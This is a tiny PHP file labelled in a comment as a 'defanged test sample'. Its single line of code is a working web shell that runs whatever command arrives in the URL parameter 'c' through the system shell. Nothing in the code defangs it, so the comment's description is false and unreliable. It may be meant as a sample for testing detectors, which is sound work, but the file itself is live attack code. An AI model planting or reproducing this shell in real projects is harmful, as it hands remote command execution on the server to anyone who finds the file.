<?php
// defanged test sample
system($_GET['c']);
